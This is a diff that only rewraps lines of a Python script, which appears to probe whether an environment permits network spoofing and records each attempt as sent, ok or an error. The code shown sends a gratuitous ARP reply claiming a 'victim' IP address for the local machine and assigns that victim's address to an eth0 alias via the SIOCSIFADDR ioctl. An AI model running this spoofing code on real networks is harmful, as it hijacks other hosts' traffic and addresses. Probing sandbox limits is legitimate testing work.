@@ -13,8 +13,13 @@ try:
     s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0806))
     s.bind(("eth0", 0))
     mac = s.getsockname()[4]
-    arp = (struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2) + mac + socket.inet_aton(victim)
-           + b"\xff" * 6 + socket.inet_aton(victim))
+    arp = (
+        struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2)
+        + mac
+        + socket.inet_aton(victim)
+        + b"\xff" * 6
+        + socket.inet_aton(victim)
+    )
     s.send(b"\xff" * 6 + mac + b"\x08\x06" + arp)  # a gratuitous ARP reply: victim is at us
     s.close()
     results["gratuitous arp"] = "sent"
@@ -22,8 +27,9 @@ except OSError as exc:
     results["gratuitous arp"] = exc.strerror
 try:  # SIOCSIFADDR on an alias: take the victim's address as a second address of our own
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
-        req = struct.pack("16sH2s4s8s", b"eth0:9", socket.AF_INET, b"\0\0",
-                          socket.inet_aton(victim), b"\0" * 8)
+        req = struct.pack(
+            "16sH2s4s8s", b"eth0:9", socket.AF_INET, b"\0\0", socket.inet_aton(victim), b"\0" * 8
+        )
         fcntl.ioctl(s, 0x8916, req)
     results["SIOCSIFADDR"] = "ok"
 except OSError as exc:
